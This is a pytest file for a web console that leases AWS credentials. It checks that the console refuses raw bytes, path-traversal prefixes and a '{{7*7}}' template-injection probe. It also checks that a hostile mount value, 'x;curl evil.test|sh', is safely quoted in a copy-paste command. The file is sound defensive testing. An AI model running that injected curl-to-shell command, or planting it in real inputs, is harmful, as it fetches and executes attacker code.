"""What somebody tries who sends more than the console's own pages would."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from tests.support.access import principal
from tests.support.console_browser import browser
from tests.support.iam_faults import Fault, Kind
from tests.support.virtual_loop import virtual

HOSTILE = "x;curl evil.test|sh"


@pytest.mark.parametrize("path", ["/roles/aws/\udcff", "/sign-in/link/\udcff", "/leases?prefix=\udcff"])
@virtual
async def test_an_address_with_raw_bytes_is_refused(path: str) -> None:
    async with browser() as b:
        await b.sign_in()
        assert (await b.ask("GET", path)).status == 400


@pytest.mark.parametrize("prefix", ["", "a b/", "../..", "aws/creds//", "aws/creds/app/" + "x" * 600])
@virtual
async def test_a_prefix_that_cannot_exist_is_refused_before_the_question(prefix: str) -> None:
    async with browser() as b:
        await b.sign_in()
        page = await b.get(f"/leases/revoke-prefix?prefix={quote(prefix, safe='')}")
        assert page.status == 400
        assert page.title() == "Error: This request is not valid – Lessor"


@pytest.mark.parametrize("name", ["role_arns", "policy_arns"])
@virtual
async def test_an_item_of_a_list_that_begins_as_a_document_does_is_a_problem_of_its_field(name: str) -> None:
    async with browser() as b:
        await b.sign_in()
        form = (await b.get("/new/role?mount=aws")).form("/new/role/aws")
        page = await b.send(form, name="one", **{name: "{{7*7}}"})
        assert page.status == 400
        field = next(one for one in page.elements("textarea") if one["name"] == name)
        assert field["aria-invalid"] == "true"


@virtual
async def test_a_command_to_copy_has_no_more_commands_in_it() -> None:
    async with browser() as b:
        b.knows("nobody-token", principal("nobody"))
        await b.sign_in("nobody-token")
        page = await b.get(f"/issue?mount={quote(HOSTILE)}")
        assert f"lessor role list --mount '{HOSTILE}'" in page.words()


@virtual
async def test_events_of_a_prefix_that_cannot_exist_have_no_command_and_no_stream() -> None:
    async with browser() as b:
        await b.sign_in()
        page = await b.get(f"/events?prefix={quote(HOSTILE)}")
        assert page.status == 400
        assert "lessor watch" not in page.text
        assert "data-events" not in page.text


@virtual
async def test_a_page_never_says_to_who_may_not_list_leases_that_there_are_none() -> None:
    async with browser() as b:
        await b.world.issue()
        b.knows("tidy-token", principal("tidy", "update,sudo sys/leases/revoke-prefix/aws/"))
        await b.sign_in("tidy-token")
        page = await b.get("/leases/revoke-prefix?prefix=aws/")
        assert "Every lease under aws/ will be revoked (you can see none)" in page.words()
        page = await b.get("/engines/aws/disable")
        assert "Every lease of aws will be revoked (you can see none)" in page.words()


@virtual
async def test_an_error_is_a_sentence() -> None:
    async with browser() as b:
        b.knows("nobody-token", principal("nobody"))
        await b.sign_in("nobody-token")
        assert "This needs list on sys/mounts/." in (await b.get("/engines")).words()


@virtual
async def test_a_lease_that_was_never_issued_has_no_time_of_issue() -> None:
    async with browser() as b:
        await b.sign_in()
        b.world.aws.faults.add(Fault(Kind.REFUSE, "CreateUser"))
        b.world.aws.faults.add(Fault(Kind.REFUSE, "DeleteUser"))
        form = (await b.get("/issue")).form("/issue")
        assert (await b.send(form, role="app")).status >= 400
        (lease_id,) = b.world.store.rows
        assert "not issued" in (await b.get("/events?prefix=aws/")).words()
        assert "Issued never" in (await b.get(f"/leases/{lease_id}")).words()
